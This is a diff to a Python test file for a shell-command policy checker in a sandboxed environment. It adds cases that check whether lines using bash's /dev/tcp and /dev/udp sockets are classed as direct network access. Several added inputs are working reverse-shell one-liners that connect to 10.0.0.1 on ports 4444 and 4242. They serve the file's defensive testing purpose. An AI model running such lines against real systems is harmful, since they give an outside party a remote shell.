@@ -39,6 +39,8 @@ def policy(network: Network | None) -> Policy:
     "nc -l 4444",  # listening in the jail, not connecting
     'curl -s "$URL"',  # not known before it runs: the proxy checks it
     "pip install -i https://pypi.org/simple requests",
+    "echo > /dev/tcp/127.0.0.1/8000 && echo open",  # a port check on the jail's own loopback
+    "exec 3<>/dev/tcp/localhost/80",
 ])
 def test_what_the_network_reaches_is_allowed(line: str) -> None:
     decision = decide(line, WORKSPACE, policy(PROXY))
@@ -64,6 +66,9 @@ def test_what_the_network_reaches_is_allowed(line: str) -> None:
     ("f() { curl -s \"$1\"; }; f https://1mocat.github.io/x", "network-allow", "1mocat.github.io:443"),
     ("U=https://1mocat.github.io/x; curl -s $U", "network-allow", "1mocat.github.io:443"),
     ("bash -c 'wget https://1mocat.github.io/x'", "network-allow", "1mocat.github.io:443"),
+    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "network-direct", "10.0.0.1:4444"),  # bash's own sockets
+    ("exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196", "network-direct", "10.0.0.1:4242"),
+    ("cat < /dev/udp/example.com/53", "network-direct", "example.com:53"),
 ])
 def test_what_the_network_cannot_reach_is_denied_with_the_profile_key(line: str, rule: str, where: str) -> None:
     decision = decide(line, WORKSPACE, policy(PROXY))
@@ -82,3 +87,5 @@ def test_without_a_network_every_remote_destination_is_denied() -> None:
 
 def test_a_hook_outside_any_jail_does_not_judge_the_network() -> None:
     assert decide("curl -s https://1mocat.github.io/abusive.html", WORKSPACE, policy(None)).decision == "allow"
+    # ...but on the host, a /dev/tcp redirect is still a write outside the workspace, as it always was
+    assert decide("echo x > /dev/tcp/127.0.0.1/22", WORKSPACE, policy(None)).rule == "write-outside-workspace"
